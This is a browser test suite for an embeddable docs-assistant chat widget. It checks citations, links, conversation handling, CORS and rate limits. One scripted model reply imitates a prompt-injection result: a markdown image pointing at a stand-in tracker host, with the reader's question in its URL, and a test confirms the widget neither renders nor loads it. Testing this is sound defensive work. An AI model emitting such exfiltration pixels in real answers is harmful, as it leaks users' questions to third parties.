import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { ask, docsPage, inWidget, openWidget, widgetFeatures, widgetTag } from './widget-features.js';
import { watchedPage, type WatchedPage } from '../../support/browser.js';
import { assistantWorld, SITE, type AssistantWorld } from '../assistant/harness.js';
import type { RecordedRequest } from '../../fakes/chat-completions-server.js';
import { screenshot } from './artifacts.js';
import { bundlePage, htmlPage, startPageServer, type PageServer } from './page-server.js';

const DOCS = 'https://docs.example.com';
const MIRROR = 'https://mirror.example.org/docs';
const LONG_PARAGRAPHS = 60;
const PIXEL = 'https://tracker.example.net/p.gif';

/** A page's identity: no anchor, no trailing slash (as the widget and the contract count pages). */
const pageOf = (url: string) => {
  const u = new URL(url);
  return `${u.origin}${u.pathname.replace(/\/+$/, '')}`;
};

/** The passages the assistant numbered in the model's system prompt (`[n] Title (url)`). */
function promptPassages(req: RecordedRequest): Array<{ n: number; title: string }> {
  const system = String(req.body.messages.find((m) => m.role === 'system')?.content ?? '');
  return [...system.matchAll(/^\[(\d+)\] (.+?) \(\S+\)$/gm)].map((m) => ({ n: Number(m[1]), title: m[2] ?? '' }));
}

/**
 * The scripted model: a long answer, an answer with a site-relative link, or
 * by default one sentence citing each passage it was given, so a page with
 * two passages is cited twice.
 */
function answer(req: RecordedRequest): { text: string } {
  const question = String(req.body.messages.at(-1)?.content ?? '');
  if (/long/i.test(question)) {
    return { text: Array.from({ length: LONG_PARAGRAPHS }, (_, i) => `Paragraph ${i + 1} of the long answer [1].`).join('\n\n') };
  }
  if (/relative/i.test(question)) return { text: 'Read [the install guide](/guides/install) first [1].' };
  // What a prompt injection in the docs could make the model write: a pixel carrying what the reader asked.
  if (/status/i.test(question)) return { text: `All is well [1]. ![status](${PIXEL}?q=${encodeURIComponent(question)})` };
  const passages = promptPassages(req);
  // A prompt in another shape: cite the first three sources by number.
  if (passages.length === 0) return { text: 'Installation explains this [1]. See also [2] and [3].' };
  return { text: passages.map((p) => `${p.title} explains this [${p.n}].`).join(' ') };
}

/**
 * The embeddable widget and the demo page in headless Chromium, on a docs
 * site served from another origin than the API, over the real assistant
 * route and the scripted model server (standing for an OpenAI-compatible
 * provider). Screenshots of each state go to test-artifacts/widget/.
 */
describe('the widget in a real browser', function () {
  this.timeout(180_000);
  let world: AssistantWorld;
  let site: PageServer;
  let tab: WatchedPage;
  afterEach(() => tab.close());

  before(async function () {
    world = await assistantWorld({ script: answer, features: await widgetFeatures() });
    site = await startPageServer();
    const domain = (id: string, baseUrl: string, allowedOrigins?: string[]) =>
      world.services.tenants.putDomain({ id, orgId: world.org.orgId, source: '.', docsPath: '', baseUrl, includeHidden: false, ...(allowedOrigins ? { allowedOrigins } : {}) });
    // Only the docs site may call it: the demo page Quire serves is on the API's own origin, the test site is not.
    await domain('restricted', DOCS, [DOCS]);
    // A domain whose docs really are on the test site, so a citation link can be opened.
    await domain('onsite', site.origin);
    for (const id of ['restricted', 'onsite']) await world.docIndex.applyChanges(id, { upserts: SITE, removals: [] });

    const tag = (domainId: string, extra = '') => widgetTag(world.url, domainId, world.org.assistantKey, extra);
    const page = (title: string, body: string) => docsPage(title, `<h1>${title}</h1>${body}`);
    site.put('/widget.html', page('Docs', `<p>A page of the docs.</p>${tag('docs')}`));
    site.put('/widget-mirror.html', page('Mirror', `<p>A mirror of the docs.</p>${tag('docs', ` data-docs-url="${MIRROR}"`)}`));
    site.put('/restricted.html', page('Elsewhere', `<p>Not the docs site.</p>${tag('restricted')}`));
    for (const doc of SITE) site.put(doc.path, page(doc.title, `<p>${doc.content}</p>`));
    site.put('/embed.js', await bundlePage('embed-chat.ts'));
    site.put('/embed.html', htmlPage('Help panel', { api: world.url, domain: 'onsite', key: world.org.assistantKey }, '/embed.js'));
  });
  after(() => world.close());




  const savedThread = async (page: Page) => {
    const saved = await page.evaluate(`Object.entries(localStorage).find(([k]) => k.startsWith('quire-widget:'))?.[1] ?? null`);
    return saved ? (JSON.parse(String(saved)) as { threadId: string; threadKey: string }) : undefined;
  };

  const exchanges = async (threadId: string) => {
    const res = await fetch(`${world.url}/v1/admin/threads/${threadId}`, { headers: { authorization: `Bearer ${world.org.adminKey}` } });
    assert.equal(res.status, 200);
    return ((await res.json()) as { exchanges: unknown[] }).exchanges.length;
  };

  const hrefs = (page: Page, selector: string) => page.locator(selector).evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''));

  it("sends links to data-docs-url when the page gives one, else to the domain's site, never to the page's own", async () => {
    tab = await watchedPage();
    const { page } = tab;
    await page.goto(`${site.origin}/widget-mirror.html`);
    await openWidget(page);
    const mirrored = await ask(page, 'Where is the relative install guide?', 1);
    await mirrored.locator('.suggestions a').first().waitFor();
    await screenshot(page, 'widget', 'links-data-docs-url');
    assert.equal(await mirrored.locator('.answer-text a', { hasText: 'the install guide' }).getAttribute('href'), `${MIRROR}/guides/install`);
    for (const href of [...(await hrefs(page, '#quire-widget .suggestions a')), ...(await hrefs(page, '#quire-widget .sources a')), ...(await hrefs(page, '#quire-widget .answer-text a.cite'))]) {
      assert.ok(href.startsWith(`${MIRROR}/guides/`), href);
    }
    assert.ok((await hrefs(page, '#quire-widget .sources a')).length > 0);
    await tab.close();

    tab = await watchedPage();
    await tab.page.goto(`${site.origin}/widget.html`);
    await openWidget(tab.page);
    const plain = await ask(tab.page, 'Where is the relative install guide?', 1);
    assert.equal(await plain.locator('.answer-text a', { hasText: 'the install guide' }).getAttribute('href'), `${DOCS}/guides/install`);
    assert.equal(await plain.locator('.suggestions a').first().getAttribute('href'), `${DOCS}/guides/install`);
    assert.deepEqual(tab.errors, []);
  });

  it('numbers citations in order of first citation, links each to its page, and lists each page once', async () => {
    tab = await watchedPage();
    const { page } = tab;
    await page.goto(`${site.origin}/widget.html`);
    await openWidget(page);
    const reply = await ask(page, 'How do I install the CLI on Windows, and how are webhooks signed?', 1);
    await screenshot(page, 'widget', 'citations');
    const markers = await reply.locator('.answer-text a.cite').evaluateAll((links) => links.map((a) => ({ text: a.textContent ?? '', href: a.getAttribute('href') ?? '' })));
    const listed = await hrefs(page, '#quire-widget .answer .sources a');
    assert.ok(markers.length >= 2, JSON.stringify(markers));
    // The markers count pages from 1 in the order the answer first cites them.
    const firstSeen = [...new Set(markers.map((m) => m.text))];
    assert.deepEqual(firstSeen, firstSeen.map((_, i) => `[${i + 1}]`));
    // Each page once in the list, and the list's n-th entry is the page of marker [n].
    assert.equal(new Set(listed.map(pageOf)).size, listed.length, listed.join('\n'));
    for (const m of markers) {
      const n = Number(/\d+/.exec(m.text)?.[0]);
      assert.equal(pageOf(m.href), pageOf(listed[n - 1] ?? ''), `${m.text} links to the page listed as ${n}`);
      assert.ok(m.href.startsWith(`${DOCS}/guides/`), m.href);
    }
    assert.deepEqual(
      [...new Set(markers.map((m) => pageOf(m.href)))].sort(),
      [`${DOCS}/guides/install`, `${DOCS}/guides/webhooks`],
      'both pages are cited, the install page (two passages) under one number',
    );
    assert.deepEqual(tab.errors, []);
  });

  it('says when it resumes a saved conversation, and New conversation starts a new thread', async () => {
    tab = await watchedPage();
    const { page } = tab;
    await page.goto(`${site.origin}/widget.html`);
    await openWidget(page);
    assert.equal(await page.locator('#quire-widget .resumed').count(), 0, 'nothing to resume on a first visit');
    await ask(page, 'How do I install the CLI?', 1);
    const first = await savedThread(page);
    assert.ok(first);

    await page.reload();
    await openWidget(page);
    const resumed = page.locator('#quire-widget .resumed');
    assert.match((await resumed.textContent()) ?? '', /Resumed your earlier conversation/);
    assert.ok(await resumed.isVisible());
    await screenshot(page, 'widget', 'resumed');
    await ask(page, 'And on Windows?', 1);
    assert.equal((await savedThread(page))?.threadId, first.threadId);
    assert.equal(await exchanges(first.threadId), 2, 'the resumed thread went on');

    const reset = page.locator('#quire-widget button', { hasText: 'New conversation' });
    assert.ok(await reset.isVisible());
    await reset.click();
    assert.equal(await page.locator('#quire-widget .answer').count(), 0);
    assert.equal(await resumed.count(), 0);
    assert.equal(await savedThread(page), undefined);
    await ask(page, 'How are webhooks signed?', 1);
    await screenshot(page, 'widget', 'new-conversation');
    const second = await savedThread(page);
    assert.ok(second && second.threadId !== first.threadId, 'a new thread');
    assert.equal(await exchanges(second.threadId), 1);
    assert.equal(await exchanges(first.threadId), 2, 'the old thread is left as it was');
    await page.reload();
    await openWidget(page);
    assert.ok(await page.locator('#quire-widget .resumed').isVisible(), 'the new conversation is the one resumed next');
    assert.deepEqual(tab.errors, []);
  });

  it('deletes the conversation on the server at the reader\'s request, and says so', async () => {
    tab = await watchedPage();
    const { page } = tab;
    await page.goto(`${site.origin}/widget.html`);
    await openWidget(page);
    const erase = page.locator('#quire-widget button', { hasText: 'Delete conversation' });
    assert.ok(await erase.isHidden(), 'nothing to delete before a question');
    await ask(page, 'How do I install the CLI?', 1);
    const saved = await savedThread(page);
    assert.ok(saved);
    assert.equal(await exchanges(saved.threadId), 1);
    await erase.click();
    await page.locator('#quire-widget .resumed', { hasText: 'Your conversation was deleted.' }).waitFor();
    assert.equal(await page.locator('#quire-widget [role=status].sr').textContent(), 'Your conversation was deleted.');
    assert.equal(await savedThread(page), undefined);
    assert.ok(await erase.isHidden());
    const gone = await fetch(`${world.url}/v1/admin/threads/${saved.threadId}`, { headers: { authorization: `Bearer ${world.org.adminKey}` } });
    assert.equal(gone.status, 404, 'erased on the server, not only forgotten in the browser');
    assert.deepEqual(tab.errors, []);
  });

  it('opens a long answer at its beginning, not its end', async () => {
    tab = await watchedPage();
    const { page } = tab;
    await page.goto(`${site.origin}/widget.html`);
    await openWidget(page);
    await ask(page, 'How do I install the CLI?', 1);
    const reply = await ask(page, 'Give me the long version', 2);
    assert.equal(await reply.locator('.answer-text p').count(), LONG_PARAGRAPHS);
    await screenshot(page, 'widget', 'long-answer');
    const view = (await inWidget(
      page,
      `(() => { const log = root.querySelector('.log'); const box = log.getBoundingClientRect();
        const q = root.querySelectorAll('.question')[1].getBoundingClientRect();
        const first = root.querySelectorAll('.answer')[1].querySelector('p').getBoundingClientRect();
        return { top: box.top, bottom: box.bottom, question: q.top, firstParagraph: first.bottom, scrollTop: log.scrollTop, scrollHeight: log.scrollHeight, clientHeight: log.clientHeight }; })()`,
    )) as { top: number; bottom: number; question: number; firstParagraph: number; scrollTop: number; scrollHeight: number; clientHeight: number };
    assert.ok(view.scrollTop > 0, 'scrolled past the first answer');
    assert.ok(view.question >= view.top - 1 && view.question < view.top + 30, `the question is at the top of the log: ${JSON.stringify(view)}`);
    assert.ok(view.firstParagraph <= view.bottom, `the answer's first paragraph is in view: ${JSON.stringify(view)}`);
    assert.ok(view.scrollTop + view.clientHeight < view.scrollHeight - 100, `not at the end: ${JSON.stringify(view)}`);
    assert.deepEqual(tab.errors, []);
  });

  it('the demo page: no setup form with a key, and it answers for a domain that restricts its origins, which refuses another site', async () => {
    tab = await watchedPage();
    const { page } = tab;
    await page.goto(`${world.url}/widget/demo`);
    assert.ok(await page.locator('#setup').isVisible(), 'without a key the page asks for one');
    await screenshot(page, 'widget', 'demo-without-key');
    await page.goto(`${world.url}/widget/demo#domain=restricted&key=${world.org.assistantKey}`);
    await page.reload();
    await page.locator('#quire-widget button.launcher').waitFor();
    assert.ok(await page.locator('#setup').isHidden(), 'a key given: no setup form');
    // The tag to copy wraps within the page, however narrow or wide: none of it runs off the right edge.
    assert.equal(await page.evaluate(`document.documentElement.scrollWidth <= innerWidth && document.getElementById('tag').getBoundingClientRect().right <= innerWidth`), true);
    await openWidget(page);
    const reply = await ask(page, 'How do I install the CLI?', 1);
    await reply.locator('.sources a').first().waitFor();
    assert.match((await reply.locator('.answer-text').textContent()) ?? '', /Installation explains this/);
    assert.equal(await reply.locator('.error').count(), 0);
    // Relative suggestions go to the domain's docs site, not to the API that serves the demo.
    assert.equal(await reply.locator('.suggestions a').first().getAttribute('href'), `${DOCS}/guides/install`);
    await screenshot(page, 'widget', 'demo-restricted-domain');
    assert.deepEqual(tab.errors, []);
    await tab.close();

    tab = await watchedPage();
    await tab.page.goto(`${site.origin}/restricted.html`);
    await openWidget(tab.page);
    const refused = await ask(tab.page, 'How do I install the CLI?', 1);
    assert.equal(await refused.locator('.error').textContent(), 'The assistant could not be reached.');
    assert.ok(tab.errors.some((e) => /blocked by CORS policy/.test(e)), tab.errors.join('\n'));
    await screenshot(tab.page, 'widget', 'other-origin-refused');
  });

  it("loads no image of the answer on the docs page: it is a link the reader may follow", async () => {
    tab = await watchedPage();
    const { page } = tab;
    const requested: string[] = [];
    page.on('request', (request) => void (request.url().startsWith(PIXEL) && requested.push(request.url())));
    await page.goto(`${site.origin}/widget.html`);
    await openWidget(page);
    const reply = await ask(page, 'What is the status of my account?', 1);
    const link = reply.locator('.answer-text a', { hasText: 'status' });
    assert.match((await link.getAttribute('href')) ?? '', /^https:\/\/tracker\.example\.net\/p\.gif\?q=/);
    assert.equal(await page.locator('#quire-widget img').count(), 0);
    assert.deepEqual(requested, []);
  });

  it('tells a reader who asked too often when to ask again, in words rather than seconds', async () => {
    // An organisation allowing one question a day from an address: the second is refused, at the latest, until the day ends (UTC).
    await world.services.tenants.addOrg('sparing', { assistantPerIpPerDay: 1 });
    const key = await world.services.tenants.createKey('sparing', 'assistant');
    await world.services.tenants.putDomain({ id: 'sparing-docs', orgId: 'sparing', source: '.', docsPath: '', baseUrl: DOCS, includeHidden: false });
    await world.docIndex.applyChanges('sparing-docs', { upserts: SITE, removals: [] });
    site.put('/sparing.html', docsPage('Sparing', `<h1>Sparing</h1>${widgetTag(world.url, 'sparing-docs', key.secret)}`));
    tab = await watchedPage();
    const { page } = tab;
    await page.goto(`${site.origin}/sparing.html`);
    await openWidget(page);
    await ask(page, 'How do I install the CLI?', 1);
    const refused = await ask(page, 'And on Windows?', 2);
    const said = (await refused.locator('.error').textContent()) ?? '';
    await screenshot(page, 'widget', 'too-many-questions');
    assert.match(said, /^Too many questions right now; please try again (in \d+ (second|minute)s?|after \d{1,2}[:.]\d{2}( [AP]M)?( tomorrow)?)\.$/, said);
  });

  // Depends on the answer path's one-source-per-page change (another branch): today's search result repeats a page per passage, and its text cites with bare [n].
  it("a page reading the stream as Mintlify's embed example does: each cited page once, and every citation link opens that page", async () => {
    tab = await watchedPage();
    const { page } = tab;
    await page.goto(`${site.origin}/embed.html`);
    await page.fill('#question', 'How do I install the CLI on Windows, and how are webhooks signed?');
    await page.click('button[type=submit]');
    const reply = page.locator('article[data-role=assistant]').first();
    await reply.waitFor();
    await page.locator('#status', { hasText: 'ready' }).waitFor();
    await screenshot(page, 'widget', 'embed-example');
    const sources = await reply.locator('.sources a').evaluateAll((links) => links.map((a) => ({ href: a.getAttribute('href') ?? '', title: a.textContent ?? '' })));
    assert.ok(sources.length >= 2, JSON.stringify(sources));
    assert.equal(new Set(sources.map((s) => pageOf(s.href))).size, sources.length, `each page once: ${JSON.stringify(sources)}`);
    const cited = await hrefs(page, 'article[data-role=assistant] .text a');
    assert.ok(cited.length > 0, 'the answer text links its citations');
    for (const href of new Set(cited)) {
      const source = sources.find((s) => pageOf(s.href) === pageOf(href));
      assert.ok(source, `${href} is one of the sources`);
      const opened = await tab.context.newPage();
      const response = await opened.goto(href);
      assert.equal(response?.status(), 200, href);
      assert.equal(await opened.locator('h1').textContent(), source.title, `${href} opens the page it cites`);
      await opened.close();
    }
    assert.deepEqual(tab.errors, []);
  });
});
